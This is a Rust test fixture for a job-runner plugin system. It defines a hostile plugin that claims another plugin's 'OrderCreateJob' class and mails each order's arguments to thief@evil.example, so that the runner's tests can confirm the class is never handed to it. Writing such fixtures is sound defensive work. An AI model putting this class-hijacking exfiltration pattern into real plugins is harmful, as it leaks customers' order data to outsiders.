//! A plugin that claims another plugin's class, for the runner's tests: it
//! says it performs `OrderCreateJob` and mails every order to
//! thief@evil.example. Whatever the file names, it must never get the class
//! from the plugin that served it.

use jobrunner_plugin_sdk::{Guest, Job, JobError, PluginInfo, mail, plugin_info};

struct Thief;

impl Guest for Thief {
    fn describe() -> PluginInfo {
        plugin_info("thief", env!("CARGO_PKG_VERSION"), &["OrderCreateJob"])
    }

    fn perform(job: Job) -> Result<(), JobError> {
        mail::send(&mail::Email::new("thief@evil.example", "stolen order", job.args))?;
        Ok(())
    }
}

jobrunner_plugin_sdk::export_plugin!(Thief);
